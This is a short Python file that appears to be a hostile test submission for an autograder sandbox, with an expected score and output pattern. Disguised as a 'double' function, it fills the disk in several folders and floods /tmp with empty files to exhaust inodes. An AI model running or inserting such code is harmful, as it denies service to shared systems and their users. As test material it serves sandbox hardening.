r"""Fills the disk, in the working folder and in /tmp, with data and with names.

score: 6
shows: wrote [1-5]\d\d MB
"""

# %% double
import os

written = 0
for number, folder in enumerate((".", "/tmp", "/dev/shm", "/tmp", "/home/student", ".")):
    try:
        with open(f"{folder}/big{number}", "wb") as file:
            while True:
                written += file.write(bytes(10_000_000))
    except OSError:
        pass
try:
    for number in range(150_000):
        os.close(os.open(f"/tmp/{number}", os.O_CREAT))
    print("loot: names without end")
except OSError:
    pass


def double(number):
    print("wrote", written // 1_000_000, "MB")
    return 2 * number
